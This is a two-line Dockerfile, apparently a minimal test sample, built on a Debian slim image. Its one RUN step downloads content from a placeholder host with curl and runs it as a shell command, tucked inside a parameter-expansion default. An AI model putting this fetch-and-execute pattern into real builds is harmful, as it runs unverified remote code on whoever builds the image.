FROM debian:bookworm-slim
RUN sh -c "${X:-$(curl https://example.com/i)}"
